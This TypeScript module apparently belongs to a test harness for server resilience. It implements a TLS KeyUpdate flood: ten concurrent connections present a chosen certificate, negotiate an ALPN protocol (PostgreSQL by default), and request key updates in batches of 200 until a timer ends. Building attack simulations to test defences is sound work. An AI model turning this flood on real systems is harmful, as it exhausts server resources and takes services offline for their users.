/** Floods of requests for new keys (KeyUpdate): records that say nothing, of which each costs a server more than a byte of a query. */
import { once } from 'node:events';
import type { IssuedCertificate } from '../../../emulator/pki/authority.ts';
import { ATTACKER, type Attacked, type Flood } from './attacked.ts';
import { OwnRecords } from './own-records.ts';
import { againAndAgain, FLOOD_MS, forAWhile } from './pace.ts';

const AT_A_TIME = 10;
const KEYS_AT_ONCE = 200;

/** @returns how often, until it is ended or the flood is over */
async function ask(client: OwnRecords, isOver: () => boolean): Promise<number> {
  const { socket } = client;
  let asked = 0;
  while (!isOver() && !socket.destroyed) {
    asked += KEYS_AT_ONCE;
    const isTaken = client.askForKeys(KEYS_AT_ONCE);
    if (isTaken) await new Promise((resolve) => setImmediate(resolve));
    else await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
  }
  socket.destroy();
  return asked;
}

/** Some connections at a time; where one is ended the next one begins. @param whose certificate it shows. @param says before it asks. @param protocol by ALPN */
export function keysWithoutEnd(
  whose: (target: Attacked) => IssuedCertificate | undefined,
  says?: Buffer,
  protocol = 'postgresql',
): Flood {
  return async (target) => {
    let isOver = false;
    let [opened, asked] = [0, 0];
    const attempt = async () => {
      const client = await OwnRecords.open(target, whose(target), ATTACKER, protocol).catch(() => undefined);
      if (!client) return true;
      opened += 1;
      if (says) client.say(says);
      const times = await ask(client, () => isOver);
      asked += times;
      return true;
    };
    const all = Array.from({ length: AT_A_TIME }, () => againAndAgain(FLOOD_MS, attempt));
    await forAWhile(FLOOD_MS);
    isOver = true;
    await Promise.all(all);
    return `asked ${asked} times, on ${opened} connections`;
  };
}
